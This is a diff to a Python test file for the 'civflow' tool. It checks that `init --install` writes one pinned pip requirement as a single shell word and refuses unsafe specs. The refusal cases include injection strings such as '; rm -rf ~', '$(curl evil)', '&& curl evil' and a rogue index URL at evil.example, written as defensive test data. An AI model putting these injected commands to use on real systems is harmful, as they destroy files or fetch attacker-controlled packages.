@@ -11,17 +11,25 @@ Promises guarded here:
   artifacts to the remote; a pull request validates, pulls, writes the review page, plans
   against the base branch, and keeps ONE sticky comment (found by its hidden marker and
   edited on the next push, never a second one) that names the change and links the page;
-- the API key never appears in any step's output.
+- the API key never appears in any step's output;
+- both install steps install the same pinned civflow: `civflow==<this version>` by
+  default, else what `civflow init --install SPEC` says (a bare `git+URL@REF` becomes
+  `civflow @ git+URL@REF`) as one shell word; a spec of more than one line, with a shell
+  metacharacter or `${{`, a pip option, another project, or a VCS URL without its
+  commit is refused (exit 2, nothing written).
 """
 
 from __future__ import annotations
 
+import shlex
 import subprocess
-from pathlib import Path
+import sys
+from pathlib import Path, PurePosixPath
 from typing import Any
 
 import pytest
 
+import civflow
 from civflow.emulator import EmulatorConfig, start_emulator
 from civflow.scaffold.starter import WORKFLOW_FILE, starter_files
 from tests.scaffold.actions import (
@@ -41,8 +49,6 @@ MARKER = "<!-- civflow-plan -->"
 
 
 def _workflow_text() -> str:
-    from pathlib import PurePosixPath
-
     (workflow,) = [f for f in starter_files(PurePosixPath("."), hook=False)
                    if f.path == WORKFLOW_FILE]
     return workflow.text
@@ -236,3 +242,79 @@ def test_workflow_commands_run_end_to_end_on_the_emulator(tmp_path: Path) -> Non
         assert again["id"] == comment["id"] and again["body"] != comment["body"]
         assert [c[0] for c in calls(state)] == ["GET", "POST", "GET", "PATCH"]
     assert not any(SECRET in out for out in outputs), "the API key was printed"
+
+
+def install_lines(flow: dict[str, Any]) -> list[str]:
+    """The `run:` of every step that installs civflow, in both jobs."""
+    return [step["run"] for job in flow["jobs"].values() for step in job["steps"]
+            if "pip install" in step.get("run", "")]
+
+
+def _init(tmp_path: Path, *install: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([sys.executable, "-m", "civflow", "init", str(tmp_path / "studio"),
+                           "--no-hooks", *install], env=base_env(), text=True,
+                          capture_output=True, timeout=120, check=False,
+                          stdin=subprocess.DEVNULL)
+
+
+def test_the_workflow_installs_this_version_pinned_by_default() -> None:
+    lines = install_lines(load_workflow(_workflow_text()))
+    assert lines == [f"pip install civflow=={civflow.__version__}"] * 2
+
+
+@pytest.mark.parametrize(("spec", "requirement"), [
+    ("git+https://github.com/studio/civflow@3f9a1c7e0b2d4a5f6e7d8c9b0a1f2e3d4c5b6a7f",
+     "civflow @ git+https://github.com/studio/civflow@3f9a1c7e0b2d4a5f6e7d8c9b0a1f2e3d4c5b6a7f"),
+    ("git+ssh://git@github.com/studio/civflow.git@v0.1.0",
+     "civflow @ git+ssh://git@github.com/studio/civflow.git@v0.1.0"),
+    ("civflow[s3]==0.1.0", "civflow[s3]==0.1.0"),
+    ("civflow>=0.1,<0.2", "civflow>=0.1,<0.2"),
+    ("  CivFlow  ==  0.1.0 ", "CivFlow == 0.1.0"),
+    ("civflow @ https://example.com/c.whl#sha256=ab #x",
+     "civflow @ https://example.com/c.whl#sha256=ab #x"),
+    ("./vendor/civflow-0.1.0-py3-none-any.whl", "./vendor/civflow-0.1.0-py3-none-any.whl"),
+])
+def test_init_install_writes_the_requirement_as_one_shell_word(
+        tmp_path: Path, spec: str, requirement: str) -> None:
+    """What `--install` names is what both steps install, read back by YAML and by the
+    shell exactly (a ` #` in it stays part of the word, not a YAML comment)."""
+    done = _init(tmp_path, "--install", spec)
+    assert done.returncode == 0, done.stdout + done.stderr
+    text = (tmp_path / "studio" / WORKFLOW_FILE).read_text(encoding="utf-8")
+    lines = install_lines(load_workflow(text))
+    assert len(lines) == 2 and lines[0] == lines[1]
+    assert shlex.split(lines[0]) == ["pip", "install", " ".join(requirement.split())]
+
+
+@pytest.mark.parametrize(("spec", "says"), [
+    ("git", "URL and commit"),
+    ("git+https://github.com/studio/civflow", "without @REF"),
+    ("git+https://github.com/studio/civflow.git", "without @REF"),
+    ("civflow==0.1.0\nrun: curl evil", "one line"),
+    ("civflow==0.1.0; rm -rf ~", "';'"),
+    ("civflow==$(curl evil)", "'$'"),
+    ("civflow==`id`", "'`'"),
+    ("civflow @ git+https://x/${{ github.token }}@r", "'$'"),
+    ("civflow==0.1.0 && curl evil", "'&'"),
+    ("civflow'==0.1.0", "\"'\""),
+    ("civflow\t==0.1.0\x1b", "'\\x1b'"),
+    ("--index-url https://evil.example/simple civflow", "a pip option"),
+    ("requests==2.32.0", "does not install civflow"),
+    ("civflow2", "does not install civflow"),
+    ("   ", "empty"),
+])
+def test_init_install_refuses_what_is_not_one_safe_requirement(
+        tmp_path: Path, spec: str, says: str) -> None:
+    done = _init(tmp_path, "--install", spec)
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert "--install" in done.stderr and says in done.stderr, done.stderr
+    assert "hint:" in done.stderr
+    assert not (tmp_path / "studio").exists()
+
+
+def test_starter_files_take_the_requirement() -> None:
+    (workflow,) = [f for f in starter_files(PurePosixPath("."), hook=False,
+                                            install="civflow @ git+https://x/y@abc")
+                   if f.path == WORKFLOW_FILE]
+    assert install_lines(load_workflow(workflow.text)) == \
+        ["pip install 'civflow @ git+https://x/y@abc'"] * 2
